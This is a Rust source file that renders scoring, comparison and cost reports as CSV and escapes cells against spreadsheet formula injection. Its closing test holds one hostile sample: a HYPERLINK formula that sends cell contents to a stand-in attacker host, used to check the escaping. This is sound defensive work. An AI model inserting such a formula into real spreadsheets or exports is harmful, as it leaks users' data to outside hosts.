//! CSV (RFC 4180, the `csv` crate): one row per pattern × criterion, for spreadsheets.

use super::compare::CompareReport;
use super::versus::VersusReport;
use super::{RenderOptions, Report};

/// A text cell that a spreadsheet will not run: a cell starting with `=`, `+`, `-`,
/// `@`, a tab or a carriage return gets a leading `'` (OWASP's advice against CSV
/// formula injection). Numbers are written by [`number`] and are not touched.
pub fn text(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

fn number(n: Option<f64>) -> String {
    n.map(|n| format!("{n}")).unwrap_or_default()
}

fn finish(writer: csv::Writer<Vec<u8>>) -> String {
    // Writing to a Vec cannot fail, and every field is valid UTF-8.
    writer.into_inner().ok().and_then(|bytes| String::from_utf8(bytes).ok()).unwrap_or_default()
}

/// The columns of `recommend` and `compare`.
const HEADER: [&str; 14] = [
    "pattern",
    "pattern_name",
    "criterion",
    "criterion_name",
    "base_rating",
    "rating",
    "changed_by",
    "weight",
    "contribution",
    "score",
    "excluded",
    "excluded_because",
    "reason",
    "source",
];

/// A recommendation: every pattern × criterion with its trace.
pub fn render(report: &Report, _options: &RenderOptions) -> String {
    let mut writer = csv::Writer::from_writer(Vec::new());
    let _ = writer.write_record(HEADER);
    for p in &report.ranking {
        let excluded_because: Vec<&str> = p.excluded_because.iter().map(|e| e.rule.as_str()).collect();
        for c in &report.criteria {
            let Some(s) = p.criteria.get(&c.id) else { continue };
            let changed_by: Vec<&str> = s.deltas.iter().map(|d| d.rule.as_str()).collect();
            // Money replaces the base rating: no base to show.
            let base = if s.money.is_some() { String::new() } else { s.base.to_string() };
            let _ = writer.write_record([
                p.pattern.as_str(),
                &text(&p.name),
                &c.id,
                &text(&c.name),
                &base,
                &super::format_rating_value(s.rating),
                &changed_by.join(" "),
                &format!("{:.3}", s.weight),
                &format!("{:.2}", s.contribution),
                &p.score.map(super::format_score).unwrap_or_default(),
                &p.excluded.to_string(),
                &excluded_because.join(" "),
                &text(&s.reason),
                &text(&s.source),
            ]);
        }
    }
    finish(writer)
}

/// The side-by-side comparison, with the base reason and source of every rating.
pub fn render_compare(report: &CompareReport, _options: &RenderOptions) -> String {
    let mut writer = csv::Writer::from_writer(Vec::new());
    let _ = writer.write_record(HEADER);
    for p in &report.patterns {
        let excluded_because: Vec<&str> = p.excluded_because.iter().map(|e| e.rule.as_str()).collect();
        for row in &report.criteria {
            let Some(c) = row.cells.iter().find(|c| c.pattern == p.id) else { continue };
            let _ = writer.write_record([
                p.id.as_str(),
                &text(&p.name),
                &row.id,
                &text(&row.name),
                &c.base.to_string(),
                &c.rating.to_string(),
                &c.changed_by.join(" "),
                &row.weight.to_string(),
                &number(c.contribution),
                &number(p.score),
                &p.excluded.to_string(),
                &excluded_because.join(" "),
                &text(&c.reason),
                &text(&c.source),
            ]);
        }
    }
    finish(writer)
}

/// The `cost` command: one row per cost line, with its price, date and source.
pub fn render_cost(report: &super::CostOnlyReport, _options: &RenderOptions) -> String {
    let mut writer = csv::Writer::from_writer(Vec::new());
    let _ = writer.write_record([
        "pattern",
        "item",
        "description",
        "quantity",
        "unit",
        "unit_usd",
        "hours",
        "monthly_usd",
        "as_of",
        "source",
        "confidence",
    ]);
    for line in &report.cost.lines {
        let to_text = |v: serde_json::Value| v.as_str().map(str::to_owned).unwrap_or_default();
        let _ = writer.write_record([
            line.pattern.as_str(),
            &to_text(serde_json::to_value(line.item).unwrap_or_default()),
            &text(&line.description),
            &line.quantity.to_string(),
            &to_text(serde_json::to_value(line.unit).unwrap_or_default()),
            &line.unit_usd.to_string(),
            &line.hours.to_string(),
            &format!("{:.2}", line.monthly_usd),
            &text(&line.as_of),
            &text(&line.source),
            &line.confidence.map(|c| to_text(serde_json::to_value(c).unwrap_or_default())).unwrap_or_default(),
        ]);
    }
    finish(writer)
}

/// A what-if comparison: every pattern × criterion in A and in B.
pub fn render_versus(versus: &VersusReport, _options: &RenderOptions) -> String {
    let mut writer = csv::Writer::from_writer(Vec::new());
    let _ = writer.write_record([
        "pattern",
        "criterion",
        "rating_a",
        "rating_b",
        "weight_a",
        "weight_b",
        "contribution_a",
        "contribution_b",
        "score_a",
        "score_b",
    ]);
    for p in &versus.ranking {
        let a = versus.a.ranking.iter().find(|r| r.pattern == p.pattern);
        let b = versus.b.ranking.iter().find(|r| r.pattern == p.pattern);
        for c in &versus.b.criteria {
            let ca = a.and_then(|r| r.criteria.get(&c.id));
            let cb = b.and_then(|r| r.criteria.get(&c.id));
            let _ = writer.write_record([
                p.pattern.as_str(),
                &c.id,
                &number(ca.map(|x| x.rating)),
                &number(cb.map(|x| x.rating)),
                &number(ca.map(|x| x.weight)),
                &number(cb.map(|x| x.weight)),
                &number(ca.map(|x| x.contribution)),
                &number(cb.map(|x| x.contribution)),
                &number(p.score_a),
                &number(p.score_b),
            ]);
        }
    }
    finish(writer)
}

#[cfg(test)]
mod tests {
    use super::text;

    #[test]
    fn formula_leading_cells_are_neutralised() {
        for hostile in ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
            assert!(text(hostile).starts_with('\''), "{hostile}");
        }
        assert_eq!(text("ECS on EC2"), "ECS on EC2");
    }
}
